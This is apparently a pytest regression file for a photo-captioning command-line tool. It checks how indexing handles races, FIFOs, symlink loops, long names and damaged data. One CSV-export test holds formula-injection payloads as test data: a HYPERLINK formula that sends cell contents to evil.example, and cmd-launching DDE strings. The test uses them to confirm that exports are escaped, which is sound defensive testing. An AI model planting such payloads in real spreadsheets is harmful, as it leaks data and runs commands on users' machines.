"""The third hostile sweep: each case that stored a wrong description, or failed without a line, reproduced
on real photos and the real `seesay` processes, each with a timeout.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

import assistant.indexer
from assistant.indexer import index_folders
from store import Store

TIMEOUT = 240


def _run(*args: str, tmp_path: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "SEESAY_DB": str(tmp_path / "index.sqlite"), "SEESAY_CONFIG": str(tmp_path / "s.toml")}
    return subprocess.run([sys.executable, "-m", "assistant", *args], capture_output=True, text=True, env=env,
                          timeout=TIMEOUT, errors="replace")


def _index(photos: list[Path], tmp_path: Path) -> Path:
    """The index `seesay index` makes of these photos, copied into tmp_path/photos; its path."""
    (tmp_path / "photos").mkdir()
    for photo in photos:
        shutil.copy(photo, tmp_path / "photos")
    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
    return tmp_path / "index.sqlite"


@pytest.fixture(scope="module")
def photos(flickr_records) -> list[Path]:
    return [r.path for r in flickr_records if r.split == "test"][:4]


def _stored(db_path: Path) -> list[tuple]:
    """(hash, caption, sentence) of every photo the index describes."""
    with sqlite3.connect(db_path) as con:
        return con.execute("SELECT p.sha256, c.text, c.sentence FROM photos p JOIN captions c ON c.photo_id = p.id"
                           " ORDER BY p.sha256").fetchall()


@pytest.mark.timeout(TIMEOUT)
@pytest.mark.parametrize("when", ["before", "after"])
def test_a_photo_replaced_while_being_indexed_is_stored_under_the_hash_of_the_picture_described(
        tmp_path, photos, default_describer, monkeypatch, when):
    from model import load_image

    folder = tmp_path / "photos"
    folder.mkdir()
    shutil.copy(photos[0], folder / "photo.jpg")
    read = assistant.indexer.read_image_file

    def replaced(path, **kwargs):  # another program writes a new picture over the file, just before or after
        if when == "before":       # its bytes are read: hashing and decoding the file apart stored one picture's
            shutil.copy(photos[1], path)  # description under the other's hash
        data = read(path, **kwargs)
        if when == "after":
            shutil.copy(photos[1], path)
        return data

    monkeypatch.setattr(assistant.indexer, "read_image_file", replaced)
    with Store(tmp_path / "index.sqlite") as db:
        report = index_folders(db, default_describer, [folder])
    assert report.described == 1 and not report.failed
    seen = photos[1] if when == "before" else photos[0]
    said = {p: default_describer.describe([load_image(p)], beam_size=3)[0] for p in photos[:2]}
    assert said[photos[0]].caption.text != said[photos[1]].caption.text  # the test can tell them apart
    sha = hashlib.sha256(seen.read_bytes()).hexdigest()
    assert _stored(tmp_path / "index.sqlite") == [(sha, said[seen].caption.text, said[seen].sentence)]


@pytest.mark.timeout(TIMEOUT)
def test_a_photo_written_while_its_bytes_are_read_is_read_again_on_the_next_run(
        tmp_path, photos, default_describer, monkeypatch):
    folder = tmp_path / "photos"
    folder.mkdir()
    shutil.copy(photos[0], folder / "photo.jpg")
    fstat, written = os.fstat, []

    def meanwhile(fd):  # another program appends to the photo once part of it has been read
        if os.lseek(fd, 0, os.SEEK_CUR) > 0 and os.path.samestat(fstat(fd), os.stat(folder / "photo.jpg")) \
                and not written:
            written.append(True)
            with open(folder / "photo.jpg", "ab") as f:
                f.write(b"\0" * 100)
        return fstat(fd)

    monkeypatch.setattr(os, "fstat", meanwhile)
    db_path = tmp_path / "index.sqlite"
    with Store(db_path) as db:
        report = index_folders(db, default_describer, [folder])
    monkeypatch.undo()
    assert written and [why for _, why in report.failed] == [assistant.indexer.CHANGED]
    assert _stored(db_path) == []
    with Store(db_path) as db:  # though its size and time are what the run listed, it is read again
        again = index_folders(db, default_describer, [folder])
    assert again.described == 1 and not again.failed
    assert [row[0] for row in _stored(db_path)] == [hashlib.sha256((folder / "photo.jpg").read_bytes()).hexdigest()]


@pytest.mark.timeout(TIMEOUT)
def test_a_new_photo_and_a_copy_of_a_known_one_are_each_opened_once(tmp_path, photos, default_describer,
                                                                    monkeypatch):
    import builtins

    folder = tmp_path / "photos"
    folder.mkdir()
    shutil.copy(photos[0], folder / "known.jpg")
    with Store(tmp_path / "index.sqlite") as db:
        index_folders(db, default_describer, [folder])
    shutil.copy(photos[0], folder / "copy.jpg")
    shutil.copy(photos[1], folder / "new.jpg")
    opened: list[str] = []
    os_open, open_ = os.open, builtins.open

    def counted(real):
        def opener(file, *args, **kwargs):
            if isinstance(file, (str, os.PathLike)) and Path(file).parent == folder:
                opened.append(Path(file).name)
            return real(file, *args, **kwargs)
        return opener

    monkeypatch.setattr(os, "open", counted(os_open))
    monkeypatch.setattr(builtins, "open", counted(open_))
    with Store(tmp_path / "index.sqlite") as db:
        report = index_folders(db, default_describer, [folder])
    monkeypatch.undo()
    assert (report.described, report.linked, report.unchanged) == (1, 1, 1)
    assert sorted(opened) == ["copy.jpg", "new.jpg"]  # new.jpg was opened three times: hashed, decoded, hashed


@pytest.mark.timeout(2 * TIMEOUT)
def test_caption_of_a_folder_says_what_it_passes_over_and_a_folder_with_no_photos(tmp_path, photos):
    folder = tmp_path / "photos"
    folder.mkdir()
    shutil.copy(photos[0], folder / "good.jpg")
    os.mkfifo(folder / "fifo.jpg")
    (folder / "gone.jpg").symlink_to(tmp_path / "nowhere.jpg")
    (folder / "x.jpg").mkdir()  # a folder named like a photo, with nothing in it
    empty = tmp_path / "empty"
    empty.mkdir()
    for command in (("caption", "--no-text"), ("colour",)):
        run = _run(*command, str(folder), str(empty), tmp_path=tmp_path)
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
        assert [line.split("\t")[0] for line in run.stdout.splitlines()] == [str(folder / "good.jpg")]
        lines = run.stderr.splitlines()
        for name, why in [("fifo.jpg", "not a regular file"), ("gone.jpg", "symbolic link")]:
            assert [line for line in lines if name in line and why in line and line.startswith("skipping ")], lines
        assert f"no photos in {empty}" in lines, lines
    alone = _run("caption", str(empty), tmp_path=tmp_path)
    assert alone.returncode == 1 and alone.stderr.splitlines() == [f"no photos in {empty}"], alone.stderr


@pytest.mark.timeout(TIMEOUT)
def test_an_even_bright_colour_is_one_even_shade_and_only_a_dark_one_is_too_dark(tmp_path, default_describer):
    from PIL import Image

    from model import load_image
    from model.describing.describer import BLANK, DARK

    shades = {"red 1x1": ((1, 1), (255, 0, 0)), "green 1x5000": ((1, 5000), (0, 128, 0)),
              "grey": ((64, 64), (110, 110, 110)), "black": ((64, 64), (0, 0, 0)), "night": ((64, 64), (30, 30, 40))}
    for name, (size, colour) in shades.items():
        Image.new("RGB", size, colour).save(tmp_path / f"{name}.png")
    said = default_describer.describe([load_image(tmp_path / f"{name}.png") for name in shades])
    assert [d.sentence for d in said] == [BLANK, BLANK, BLANK, DARK, DARK]  # red and green were "too dark"


@pytest.mark.timeout(TIMEOUT)
def test_copies_in_one_batch_and_a_second_run_at_once_are_counted_as_known(tmp_path, photos, default_describer):
    folder = tmp_path / "photos"
    folder.mkdir()
    for name in ("a.jpg", "b.jpg", "c.jpg"):  # three copies of one photo, listed into the same batch
        shutil.copy(photos[0], folder / name)
    shutil.copy(photos[1], folder / "other.jpg")
    with Store(tmp_path / "index.sqlite") as db:
        report = index_folders(db, default_describer, [folder])
    assert (report.described, report.linked, report.seen) == (2, 2, 4)
    runs = [subprocess.Popen([sys.executable, "-m", "assistant", "index", str(folder), "--db",
                              str(tmp_path / "both.sqlite"), "--quiet", "--no-embeddings", "--no-text"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outs = [run.communicate(timeout=TIMEOUT) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outs
    for out, _ in outs:  # each run accounts for every photo it saw, whichever of the two described it
        counts = [int(word) for word in out.split("(")[0].split() if word.isdigit()]
        assert sum(counts[:4]) == counts[5] == 4, out
    with sqlite3.connect(tmp_path / "both.sqlite") as con:
        assert con.execute("SELECT count(*), count(DISTINCT path) FROM files").fetchone() == (4, 4)
        assert con.execute("SELECT count(*) FROM captions").fetchone()[0] == 2


@pytest.mark.timeout(TIMEOUT)
def test_a_fifo_appearing_in_a_watched_folder_is_said_to_be_skipped(tmp_path, photos, default_describer):
    import time

    from assistant.watcher import FolderWatcher

    (tmp_path / "w").mkdir()
    messages: list[str] = []
    with Store(tmp_path / "index.sqlite") as db:
        watcher = FolderWatcher(db, default_describer, [tmp_path / "w"], on_status=messages.append, settle=0.2)
        watcher.start()
        try:
            assert watcher.ready.wait(TIMEOUT)
            os.mkfifo(tmp_path / "w" / "fifo.jpg")  # was held as pending for ever, without a word
            shutil.copy(photos[0], tmp_path / "w")
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and not (len(watcher.failed) == 1 and db.export_rows()):
                time.sleep(0.1)
        finally:
            watcher.stop()
        assert watcher.pending == 0 and len(db.export_rows()) == 1, messages
    assert [(Path(p).name, why) for p, why in watcher.failed] == [("fifo.jpg", "not a regular file")], messages


def test_pillows_warnings_about_a_photo_are_not_printed_among_the_descriptions(tmp_path, photos):
    from PIL import Image

    photo = Image.open(photos[0]).convert("RGB")
    # an Orientation tag whose value runs past the end of the EXIF block, and a palette with transparency
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0"
    photo.save(tmp_path / "exif.jpg", exif=exif)
    photo.convert("RGBA").convert("P").save(tmp_path / "palette.png")
    files = (str(tmp_path / "exif.jpg"), str(tmp_path / "palette.png"))
    for args, lines in ((("caption", "--no-text", *files), 2), (("index", str(tmp_path), "--no-text", "--quiet"), 1)):
        run = _run(*args, tmp_path=tmp_path)
        assert run.returncode == 0 and run.stderr == "", run.stderr  # were four lines of Pillow's source paths
        assert len(run.stdout.splitlines()) == lines, run.stdout


def test_a_db_that_is_a_symbolic_link_loop_is_one_line(tmp_path, photos):
    (tmp_path / "photos").mkdir()
    shutil.copy(photos[0], tmp_path / "photos")
    loop = tmp_path / "loop.sqlite"
    loop.symlink_to(loop)
    for args in (("index", str(tmp_path / "photos"), "--quiet"), ("search", "dog"), ("export",),
                 ("forget", str(tmp_path / "photos"))):
        run = _run(*args, "--db", str(loop), tmp_path=tmp_path)  # index raised a RuntimeError's traceback
        assert run.returncode == 2 and run.stderr.splitlines() == [f"seesay: {loop} is a symbolic link loop"], (
            args, run.stderr)


def test_export_to_a_fifo_nothing_reads_is_one_line_at_once(tmp_path, photos):
    _index(photos[:1], tmp_path)
    os.mkfifo(tmp_path / "out.json")
    run = _run("export", "-o", str(tmp_path / "out.json"), tmp_path=tmp_path)  # waited for a reader for ever
    assert run.returncode == 2 and run.stderr.splitlines() == [
        f"seesay: cannot write {tmp_path / 'out.json'}: it is a named pipe that nothing is reading from"], run.stderr


def test_export_will_not_write_over_the_index_it_exports(tmp_path, photos):
    _index(photos[:1], tmp_path)
    db = tmp_path / "index.sqlite"
    before = db.read_bytes()
    run = _run("export", "-o", str(db), tmp_path=tmp_path)  # wrote the JSON over the index: every row lost
    assert run.returncode == 2 and len(run.stderr.splitlines()) == 1 and "SQLite database" in run.stderr, run.stderr
    assert db.read_bytes() == before
    assert _run("export", "-o", str(tmp_path / "out.json"), tmp_path=tmp_path).returncode == 0
    assert len(json.loads((tmp_path / "out.json").read_text())) == 1


def test_say_to_will_not_write_over_the_index_as_export_will_not(tmp_path, photos):
    _index(photos[:1], tmp_path)
    db = tmp_path / "index.sqlite"
    before = db.read_bytes()
    (tmp_path / "link.wav").symlink_to(db)
    for to in (db, tmp_path / "link.wav"):
        run = _run("say", "hello", "--to", str(to), tmp_path=tmp_path)  # wrote a WAV over the index
        assert run.returncode == 2 and run.stderr.splitlines() == [
            f"seesay: will not write over {to}: it holds an SQLite database (a photo index?); choose another file"
        ], run.stderr
        assert db.read_bytes() == before
    with Store(db) as store:
        assert len(store.export_rows()) == 1
    run = _run("say", "hello", "--to", str(tmp_path / "hello.wav"), tmp_path=tmp_path)
    assert run.returncode == 0 and (tmp_path / "hello.wav").read_bytes()[:4] == b"RIFF", run.stderr


def test_export_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, photos):
    _index(photos[:1], tmp_path)
    cases = [{"caption": '=HYPERLINK("http://evil.example/?"&A1,"see")', "sentence": "+1+cmd|' /C calc'!A0",
              "text": "@SUM(1+1)*cmd|' /C calc'!A0", "objects": "-2+3"},
             {"caption": "\t=1+1", "sentence": "\r=1+1", "text": "a dog = 1 - 2", "objects": "dog"}]
    for case in cases:
        with sqlite3.connect(tmp_path / "index.sqlite") as con:  # text read from a photo is anyone's to choose
            con.execute("UPDATE captions SET text = ?, sentence = ?, reading = ?, objects = ?",
                        (case["caption"], case["sentence"], case["text"], case["objects"]))
        run = _run("export", "--format", "csv", "-o", str(tmp_path / "out.csv"), tmp_path=tmp_path)
        assert run.returncode == 0, run.stderr  # each cell was written as it was stored
        with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
            (row,) = csv.DictReader(f)
        assert {k: row[k] for k in case} == {k: "'" * v.startswith(("=", "+", "-", "@", "\t", "\r")) + v
                                             for k, v in case.items()}, row
        assert row["path"] == str(tmp_path / "photos" / photos[0].name) and float(row["confidence"]) >= 0
        (stored,) = json.loads(_run("export", tmp_path=tmp_path).stdout)  # JSON is data, written as stored
        assert {k: stored[k] for k in case} == case


def test_a_settings_file_that_is_a_folder_a_fifo_or_a_link_loop_is_said_and_the_defaults_used(tmp_path, photos):
    from assistant.settings import Settings, load_settings

    (tmp_path / "folder.toml").mkdir()
    os.mkfifo(tmp_path / "fifo.toml")
    (tmp_path / "loop.toml").symlink_to(tmp_path / "loop.toml")
    (tmp_path / "later.toml").symlink_to(tmp_path / "not-made-yet" / "settings.toml")  # saving will make it
    for name, why in [("folder", "not a regular file"), ("fifo", "not a regular file"), ("loop", "symbolic links")]:
        settings, warnings = load_settings(tmp_path / f"{name}.toml")  # each was passed over without a word
        assert settings == Settings() and len(warnings) == 1 and why in warnings[0], warnings
    assert load_settings(tmp_path / "later.toml") == (Settings(), [])
    env = {**os.environ, "SEESAY_CONFIG": str(tmp_path / "fifo.toml"), "SEESAY_DB": str(tmp_path / "i.sqlite")}
    run = subprocess.run([sys.executable, "-m", "assistant", "caption", "--no-text", str(photos[0])],
                         capture_output=True, text=True, env=env, timeout=TIMEOUT)
    assert run.returncode == 0 and len(run.stdout.splitlines()) == 1, run.stderr
    assert run.stderr.splitlines() == [f"seesay: Settings file {tmp_path / 'fifo.toml'} could not be read "
                                       "(not a regular file); using the defaults."], run.stderr


def test_names_too_long_for_a_file_name_are_one_line_each(tmp_path, photos):
    long = "a" * 300
    run = _run("caption", "--no-text", f"{long}.jpg", str(photos[0]), tmp_path=tmp_path)  # was a traceback
    assert run.returncode == 0 and len(run.stdout.splitlines()) == 1, run.stderr
    assert run.stderr.splitlines() == [f"skipping {long}.jpg: file name too long"], run.stderr
    for args in (("index", str(tmp_path / long)), ("index", str(tmp_path), "--db", f"{long}.sqlite"),
                 ("search", "dog", "--db", "/".join(["d" * 200] * 30)), ("export", "-o", f"{long}.json")):
        run = _run(*args, tmp_path=tmp_path)
        assert run.returncode == 2 and "Traceback" not in run.stderr, (args, run.stderr)
        assert "too long for a file name" in run.stderr.splitlines()[-1], (args, run.stderr)
    env = {**os.environ, "SEESAY_DB": str(tmp_path / f"{long}.sqlite"), "SEESAY_CONFIG": str(tmp_path / "s.toml")}
    for args in (("index", str(tmp_path)), ("search", "dog")):  # the index's name from the environment
        run = subprocess.run([sys.executable, "-m", "assistant", *args], capture_output=True, text=True, env=env,
                             timeout=TIMEOUT)
        assert run.returncode == 2 and len(run.stderr.splitlines()) == 1, (args, run.stderr)
        assert run.stderr.endswith(".sqlite is not usable (File name too long)\n"), run.stderr


@pytest.mark.timeout(2 * TIMEOUT)
def test_damaged_sentence_embeddings_are_one_line_and_word_search_still_works(tmp_path, photos):
    _index(photos[:3], tmp_path)
    db = tmp_path / "index.sqlite"
    for damage, why in [("UPDATE captions SET embedding = x'0000' WHERE id = 2", "of different sizes"),
                        ("UPDATE captions SET embedding = zeroblob(100)", "25 numbers each")]:
        with sqlite3.connect(db) as con:
            con.execute(damage)  # another program's write, or a damaged disk: were ValueError tracebacks
        for mode in ("hybrid", "semantic"):
            run = _run("search", "dog", "--mode", mode, tmp_path=tmp_path)
            assert run.returncode == 2 and len(run.stderr.splitlines()) == 1, run.stderr
            assert "sentence embeddings" in run.stderr and why in run.stderr and "--mode text" in run.stderr
        words = _run("search", "dog", "--mode", "text", tmp_path=tmp_path)
        assert "Traceback" not in words.stderr and words.returncode == 0, words.stderr


def test_a_semantic_search_for_nothing_visible_is_refused_as_the_other_modes_are(tmp_path):
    for query in ("", "   ", "\x1b\x07"):  # semantic mode listed every photo, ranked for an empty sentence
        for mode in ("semantic", "hybrid", "text"):
            run = _run("search", query, "--mode", mode, tmp_path=tmp_path)
            assert run.returncode == 2 and run.stdout == "", (query, mode, run.stdout)
            assert run.stderr.splitlines() == ["seesay: nothing to search for: give some words (not only 'a', "
                                               "'the' ...)"], (query, mode, run.stderr)
